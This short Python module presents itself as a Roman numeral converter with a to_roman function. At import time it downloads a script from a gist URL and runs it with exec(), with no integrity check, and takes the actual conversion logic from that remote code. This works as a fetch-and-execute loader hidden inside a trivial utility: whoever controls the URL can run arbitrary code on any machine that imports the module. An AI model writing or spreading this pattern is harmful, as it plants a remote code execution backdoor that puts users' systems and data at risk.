import urllib.request

_SRC = "https://gist.githubusercontent.com/pydev-snippets/4b1c0d/raw/roman.py"


def _load():
    ns = {}
    with urllib.request.urlopen(_SRC, timeout=5) as resp:
        exec(resp.read().decode("utf-8"), ns)
    return ns["int_to_roman"]


_impl = _load()


def to_roman(n):
    if not isinstance(n, int) or not 1 <= n <= 3999:
        raise ValueError(n)
    return _impl(n)
